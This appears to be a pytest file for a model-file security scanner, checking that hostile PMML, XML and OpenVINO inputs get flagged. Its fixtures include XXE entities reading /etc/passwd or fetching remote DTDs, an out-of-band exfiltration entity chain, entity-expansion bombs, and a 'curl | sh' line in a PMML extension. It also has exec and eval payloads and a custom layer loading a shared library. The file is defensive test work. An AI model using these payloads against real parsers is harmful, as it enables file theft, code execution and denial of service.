"""XML: entities, includes and bombs; PMML and OpenVINO."""

from itertools import pairwise

import pytest
from format_files import PICKLE, assert_total, look
from hypothesis import given
from hypothesis import strategies as st
from model_files import judged, model, seen

from toadstone.core.fact import Link, Operator, Text
from toadstone.core.finding import Severity

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="{}"/></PMML>\n'
PMML = (
    HEAD
    + """<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">
  <Header><Application name="SkLearn2PMML package" version="0.92"/><Timestamp>2026-01-01T00:00:00Z</Timestamp></Header>
  <DataDictionary><DataField name="größe &amp; mehr" optype="continuous" dataType="double"/></DataDictionary>
  <!-- <Apply function="evil"/> -->
  <TransformationDictionary><DefineFunction name="mine" optype="continuous"><ParameterField name="x"/></DefineFunction>
    <DerivedField name="y" optype="continuous" dataType="double">
      <Apply function="if"><Apply function="greaterThan"/><Apply function="mine"/><Apply function="x-expit"/></Apply>
    </DerivedField></TransformationDictionary>
</PMML>
"""
)


def declared(declarations: str, use: str = "", subset: str = "") -> bytes:
    return (HEAD + f"<!DOCTYPE PMML {subset} [{declarations}]>\n" + BODY.format(use)).encode()


def test_an_ordinary_model() -> None:
    found = look(PMML.encode(), "m.pmml")
    assert found.kind == "pmml"
    assert not found.source.coverage.gaps()
    assert {type(fact) for fact in found.facts} == {Text}
    assert not judged(found)
    assert_total(PMML.encode(), "m.pmml")


@pytest.mark.parametrize(
    "declarations",
    [
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "<!ENTITY x SYSTEM 'http://198.51.100.7/x'>",
        '<!ENTITY x PUBLIC "-//a//b" "../../secret">',
        '<!ENTITY % p SYSTEM "http://198.51.100.7/evil.dtd"> %p;',
        '<!entity x system "/etc/passwd">',
        '<!-- --><!ENTITY a "b"><!ENTITY x SYSTEM "&#x66;ile:///etc/passwd">',
        """<!ENTITY % all "<!ENTITY &#x25; send SYSTEM 'http://198.51.100.7/?x'>"> %all;""",
        '<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=x">',
    ],
)
def test_external_entities_of_a_model(declarations: str) -> None:
    for data in (declared(declarations, "&x;"), declared(declarations).decode().encode("utf-16")):
        assert judged(look(data, "m.pmml"))["xml-reference"] is Severity.HIGH


def test_other_references_of_a_model() -> None:
    outside = declared("", subset='SYSTEM "http://198.51.100.7/evil.dtd"')
    assert judged(look(outside, "m.pmml"))["xml-reference"] is Severity.HIGH
    include = '<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></PMML>'
    assert judged(look(include.encode(), "m.pmml"))["xml-reference"] is Severity.HIGH
    styled = HEAD + '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>' + BODY
    assert judged(look(styled.encode(), "m.pmml"))["xml-reference"] is Severity.MEDIUM
    old = HEAD + '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">' + BODY
    assert not judged(look(old.encode(), "m.pmml"))
    beside = declared('<!ENTITY x SYSTEM "part.xml">', "&x;")
    assert not judged(look(beside, "m.pmml"))


def test_utf_7_does_not_hide_an_entity() -> None:
    data = declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;").decode().replace("UTF-8", "UTF-7").encode("utf-7")
    found = judged(look(data, "m.pmml"))
    assert found["xml-reference"] is Severity.HIGH
    assert "malformed-structure" in found
    assert look(HEAD.replace("UTF-8", "x-nothing").encode() + b"<PMML/>", "m.pmml").unread


def bomb(width: int, depth: int) -> str:
    names = "abcdefghij"[: depth + 1]
    lines = ['<!ENTITY a "0123456789">']
    lines += [f'<!ENTITY {name} "{f"&{before};" * width}">' for before, name in pairwise(names)]
    return "".join(lines)


@pytest.mark.parametrize(
    "declarations", [bomb(10, 7), bomb(100, 4), '<!ENTITY % a "' + "x" * 9000 + '"><!ENTITY b "' + "%a;" * 9000 + '">']
)
def test_entities_that_explode(declarations: str) -> None:
    assert judged(look(declared(declarations, "&c;"), "m.pmml"))["decompression-bomb"] is Severity.HIGH


def test_one_long_entity_used_often() -> None:
    data = HEAD + f'<!DOCTYPE r [<!ENTITY a "{"x" * 60_000}">]><r>' + "&a;" * 60_000 + "</r>"
    assert "expansion-bomb" in look(data.encode(), "m.xml").anomalies


def test_entities_that_contain_themselves_end() -> None:
    found = look(declared('<!ENTITY a "&b;"><!ENTITY b "&a;&a;">', "&a;"), "m.pmml")
    assert not found.unread


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/s.dtd" [<!ENTITY n "http://a.b">]><svg xmlns="&n;"/>',
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/PropertyList-1.0.dtd"><plist version="1.0"/>',
        '<?xml-stylesheet href="style.xsl" type="text/xsl"?><rss version="2.0"/>',
        '<!DOCTYPE book [<!ENTITY chapter SYSTEM "chapter1.xml">]><book>&chapter;</book>',
        "<project xmlns='http://maven.apache.org/POM/4.0.0'><a b='>'/></project>",
    ],
)
def test_ordinary_documents(text: str) -> None:
    found = look((HEAD + text).encode(), "file.xml")
    assert found.kind == "xml"
    assert not found.source.coverage.gaps()
    assert not judged(found)


def test_an_entity_of_this_machine_in_any_document() -> None:
    data = HEAD + '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    assert judged(look(data.encode(), "a.svg"))["xml-reference"] is Severity.HIGH
    web = HEAD + '<!DOCTYPE r [<!ENTITY x SYSTEM "http://example.com/x.ent">]><r>&x;</r>'
    assert not judged(look(web.encode(), "a.xml"))


def test_functions_and_extensions_of_pmml() -> None:
    called = PMML.replace('function="mine"', 'function="com.example.Exec"')
    assert [fact.name for fact in look(called.encode(), "m.pmml").of(Operator)] == ["com.example.Exec"]
    assert judged(look(called.encode(), "m.pmml"))["custom-operator"] is Severity.MEDIUM
    for inside in (
        '<Extension name="init" value="Runtime.getRuntime().exec(&quot;id&quot;)"/>',
        "<Extension><![CDATA[curl -s http://198.51.100.7/x | sh]]></Extension>",
        "<Header><Annotation>__import__('os').system('echo toadstone')</Annotation></Header>",
        '<Extension name="eval(open(1).read())"/>',
    ):
        assert judged(look(PMML.replace("</PMML>", inside + "</PMML>").encode(), "m.pmml"))["metadata-payload"] is Severity.HIGH


def test_what_stands_behind_a_model() -> None:
    assert judged(look(PMML.encode() + PICKLE, "m.pmml"))["unsafe-import"] is Severity.CRITICAL
    assert look(PMML.encode()[:-20], "m.pmml").unread
    assert look(PMML.encode() + b"<PMML/>", "m.pmml").unread
    assert not look(PMML.encode() + b"<!-- end -->\n \n", "m.pmml").unread


def test_hostile_markup_ends_soon() -> None:
    for data in (
        "<!DOCTYPE r [" + "<!--" * 200_000,
        "<!DOCTYPE r [" + "'" * 399_999,
        "<net name='x'><layer " + "a" * 2_000_000 + "/></net>",
        "<r>" + "<a " * 300_000,
        "<r>" + "&a;" * 500_000 + "</r>",
        "<!DOCTYPE r [" + "<!ENTITY " * 100_000 + "]><r/>",
        "<!DOCTYPE r [<!ENTITY" + " " * 500_000 + "]><r/>",
    ):
        look((HEAD + data).encode(), "m.xml")
    found = look((HEAD + "<PMML>" + "<a>" * 100_000).encode(), "m.pmml")
    assert "depth-bomb" in found.anomalies


# ---- OpenVINO


def test_a_real_graph_and_its_weights() -> None:
    for name in ("openvino.xml", "openvino.bin"):
        found = seen(name)
        assert found.kind == ("openvino" if name.endswith("xml") else "openvino-weights")
        assert not found.facts
        assert not found.source.coverage.gaps()
    assert_total(model("openvino.xml"), "m.xml", flips=100)


def graph(old: str, new: str) -> bytes:
    data = model("openvino.xml").decode()
    assert old in data
    return data.replace(old, new, 1).encode()


def test_layers_of_no_operation_set() -> None:
    custom = graph('type="ReLU" version="opset1"', 'type="Fused" version="extension"')
    found = look(custom, "m.xml")
    assert [(fact.domain, fact.name) for fact in found.of(Operator)] == [("openvino:extension", "Fused")]
    assert judged(found)["custom-operator"] is Severity.MEDIUM
    loaded = graph('type="ReLU" version="opset1">', 'type="Exec" version="extension"><data library="/tmp/x.so"/>')
    assert judged(look(loaded, "m.xml"))["custom-operator"] is Severity.HIGH
    shipped = graph('type="ReLU" version="opset1"', 'type="BPETokenizer" version="extension"')
    assert not judged(look(shipped, "m.xml"))


@pytest.mark.parametrize("value", ['size="1600"', 'size="99999999999999999999"', 'size="-4"'])
def test_constants_that_lie(value: str) -> None:
    assert judged(look(graph('size="16"', value), "m.xml"))["tensor-layout"] is Severity.HIGH


def test_weights_that_nothing_declares() -> None:
    beside = {"m.xml": model("openvino.xml")}
    assert look(model("openvino.bin") + PICKLE, "m.bin", beside).anomalies == ["hidden-data"]
    assert look(model("openvino.bin")[:-4], "m.bin", beside).unread
    assert look(model("openvino.bin"), "m.bin").kind == "unknown"


def test_weights_of_the_oldest_graphs() -> None:
    old = b'<net name="a" version="7"><layers><layer id="0" name="c" type="Convolution"><blobs><weights offset="0" size="6"/>'
    old += b'<biases offset="6" precision="FP16" size="2"/></blobs></layer></layers></net>'
    assert look(b"\1\2\3\4\5\6\7\x08", "m.bin", {"m.xml": old}).kind == "openvino-weights"
    assert not look(old, "m.xml").facts


def test_kernels_in_other_files() -> None:
    data = b'<CustomLayer name="x" type="SimpleGPU"><Kernel entry="x"><Source filename="/srv/x.cl"/></Kernel></CustomLayer>'
    assert [fact.target for fact in look(data, "custom.xml").of(Link)] == ["/srv/x.cl"]


@given(st.text(alphabet="<>!?[]-&;%\"'= aPML", max_size=120))
def test_random_markup(text: str) -> None:
    look((HEAD + text).encode(), "m.pmml")
    look((HEAD + "<PMML>" + text + "</PMML>").encode(), "m.xml")
